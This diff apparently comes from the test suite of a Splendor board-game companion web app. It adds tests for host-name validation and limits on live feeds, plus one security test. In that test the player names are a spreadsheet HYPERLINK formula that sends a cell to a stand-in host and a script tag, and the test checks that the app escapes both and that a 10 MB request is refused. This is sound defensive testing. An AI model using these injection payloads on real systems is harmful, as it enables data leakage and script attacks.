@@ -6,6 +6,7 @@ a club's journal. The load cases (1,100 idle sockets) are behind the long marker
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import socket
@@ -164,6 +165,22 @@ def test_a_setting_the_page_cannot_use_is_said_in_one_line(served: tuple[Served,
     assert any("web = yes" in line and "0 or 1" in line for line in said.splitlines()), said
 
 
+def test_a_name_the_page_cannot_be_reached_by_is_refused_in_one_line(tmp_path: Path) -> None:
+    done = subprocess.run(
+        [
+            *(sys.executable, "-m", "splendor_companion", "serve", "--port", "8080"),
+            *("--allow-host", "kiosk example", "--data-dir", str(tmp_path)),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env={**os.environ, "SPLENDOR_LANG": "en"},
+    )
+    assert done.returncode == 2 and "Traceback" not in done.stderr
+    said = done.stderr.strip().splitlines()[-1]
+    assert "--allow-host" in said and "kiosk example" in said and "host name" in said
+
+
 def test_a_closed_live_feed_frees_its_place_at_once(served: tuple[Served, Path]) -> None:
     server, _data = served
     request = f"GET /events HTTP/1.1\r\nHost: {server.host}\r\n\r\n".encode()
@@ -315,6 +332,55 @@ def test_a_game_the_app_finishes_is_on_the_page(tmp_path: Path) -> None:
         assert table()["last"]["id"] == session.game_id
 
 
+HOSTILE_NAMES = ['=HYPERLINK("http://x.example/?"&A1)', "<script>alert(1)</script>"]
+
+
+def test_a_hostile_record_imported_is_shown_as_text_and_downloads_safely(
+    tmp_path: Path,
+) -> None:
+    """A record from a stranger, imported by the command: a formula and a script as the
+    players' names. The page escapes them, the JSON cannot close a script, the CSV writes
+    the formula as text, the file's name holds neither; and every attack leaves the
+    journal's folder as it was, byte for byte."""
+    import csv
+
+    data = tmp_path / "data"
+    data.mkdir()
+    env = {**os.environ, "SPLENDOR_LANG": "en"}
+    run = [sys.executable, "-m", "splendor_companion"]
+    record = tmp_path / "game.json"
+    subprocess.run([*run, "simulate", "--seed", "7", "--out", str(record)], check=True, env=env)
+    played = json.loads(record.read_text())
+    played["players"] = HOSTILE_NAMES
+    record.write_text(json.dumps(played))
+    subprocess.run([*run, "import", str(record), "--data-dir", str(data)], check=True, env=env)
+    before = {p.name: p.read_bytes() for p in data.iterdir()}
+    with serving(data) as server:
+        page = server.get("/games/1")
+        assert page.status == 200
+        assert b"<script>alert" not in page.body and b"&lt;script&gt;" in page.body
+        api = server.get("/api/v1/games/1")
+        assert b"<" not in api.body and json.loads(api.body)["info"]["players"] == HOSTILE_NAMES
+        download = server.get("/games/1/export/csv")
+        assert download.status == 200
+        disposition = download.headers["content-disposition"]
+        assert "<" not in disposition and "=HYPERLINK" not in disposition
+        rows = list(csv.reader(download.body.decode("utf-8-sig").splitlines()))
+        cells = [cell for row in rows for cell in row]
+        assert any("HYPERLINK" in cell for cell in cells)
+        assert not [c for c in cells if c[:1] in ("=", "+", "@")], cells
+        big = b"x" * (10 << 20)  # a 10 MB body, sent whole
+        head = f"POST /games HTTP/1.1\r\nHost: {server.host}\r\nContent-Length: {len(big)}\r\n"
+        with server.connect() as s:
+            s.sendall((head + "Connection: close\r\n\r\n").encode())
+            with contextlib.suppress(OSError):
+                s.sendall(big)
+            answer = s.recv(4096)
+        assert answer.split(b" ")[1] in (b"405", b"413"), answer[:80]
+        assert server.get("/games").status == 200
+    assert {p.name: p.read_bytes() for p in data.iterdir()} == before
+
+
 def test_a_club_journal_is_answered_in_pages_under_100_kb(tmp_path: Path) -> None:
     data = tmp_path / "data"
     club_journal(data, 130, cache=tmp_path / "cache", seeds=2)
@@ -440,6 +506,31 @@ def test_1100_idle_sockets_under_a_low_open_files_limit_leave_room_and_a_quiet_l
         said = stderr_of(data, server)
     assert "Traceback" not in said and "no file left" not in said
     assert len(said.splitlines()) <= 2, said
+
+
+@pytest.mark.long
+def test_300_live_feeds_32_served_the_rest_a_clean_503_and_pages_still_answered(
+    tmp_path: Path,
+) -> None:
+    data = tmp_path / "data"
+    data.mkdir()
+    with Store(data / "games.sqlite3") as store:
+        play(store, seed=3, moves=6)
+    with serving(data) as server:
+        feeds = []
+        statuses = []
+        try:
+            for _ in range(300):
+                s = server.connect()
+                s.sendall(f"GET /events HTTP/1.1\r\nHost: {server.host}\r\n\r\n".encode())
+                statuses.append(s.recv(4096).split(b"\r\n")[0].split(b" ")[1])
+                feeds.append(s)
+            assert statuses.count(b"200") == 32 and statuses.count(b"503") == 268
+            for _ in range(20):
+                assert server.get("/").status == 200
+        finally:
+            for s in feeds:
+                s.close()
 
 
 def test_serve_raises_its_own_open_files_limit_where_it_may(tmp_path: Path) -> None:
